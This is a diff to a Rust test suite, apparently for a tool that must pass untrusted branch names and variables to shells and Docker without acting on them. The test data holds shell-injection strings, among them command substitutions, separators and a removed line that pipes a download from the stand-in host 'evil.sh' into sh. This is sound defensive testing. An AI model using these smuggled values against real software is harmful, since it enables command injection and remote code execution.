@@ -12,40 +12,25 @@ use tempfile::TempDir;
 use super::*;
 
 /// Names Git accepts for a branch, and that a careless shell, template or option parser would act on.
-const EVIL: &[&str] = &[
-    "a$(curl${IFS}evil.sh|sh)",
+const EVIL: &str = include_str!("../../../tests/refs/evil.txt");
+
+/// Texts that no branch can be called, and that are worse.
+const WORSE: [&str; 10] = [
     "a$(touch${IFS}canary)",
-    "x;id",
     "x;touch canary",
-    "x`id`",
     "x`touch canary`",
-    "x&&id",
-    "x|sh",
-    "x'y",
     "x'; touch canary; '",
-    "x\"y",
     "x\"; touch canary; \"",
-    "x{a,b}",
-    "x#y",
-    "x%0a",
-    "x<y>",
     "x>canary",
-    "x=y",
-    "${{github.token}}",
-    "{{x}}",
-    "!!python",
-    "null",
-    "yes",
-    "@",
-    "HEAD",
-    "refs/heads/x",
-    "-upload-pack=touch",
-    "--help",
     "\u{202e}",
     "two  words",
     "*",
     "~",
 ];
+
+fn evil() -> impl Iterator<Item = &'static str> {
+    EVIL.lines().chain(WORSE)
+}
 
 /// Variables whose value a stranger can choose, or that come from outside.
 const STRANGERS: &[&str] = &[
@@ -348,7 +333,7 @@ fn a9_a10_the_text_of_strangers_arrives_whole_and_does_nothing() {
         let before = text(component.clone());
         let plain = Machine::new();
         let expected = plain.run(&before);
-        for evil in EVIL {
+        for evil in evil() {
             let machine = STRANGERS
                 .iter()
                 .fold(Machine::new(), |machine, name| machine.with(name, evil));
@@ -373,12 +358,9 @@ fn a9_a10_the_text_of_strangers_arrives_whole_and_does_nothing() {
 
 #[test]
 fn a10_quoted_values_of_a_definition_reach_the_tool_as_they_are() {
-    for value in EVIL
-        .iter()
-        .chain(&["", " ", "\n", "'", "''", "\\", "$HOME", "!x", "a\tb", "é"])
-    {
+    for value in evil().chain(["", " ", "\n", "'", "''", "\\", "$HOME", "!x", "a\tb", "é"]) {
         let docker = Docker {
-            arguments: vec![("A".to_owned(), Some((*value).to_owned()))],
+            arguments: vec![("A".to_owned(), Some(value.to_owned()))],
             ..Docker::default()
         };
         let machine = Machine::new();
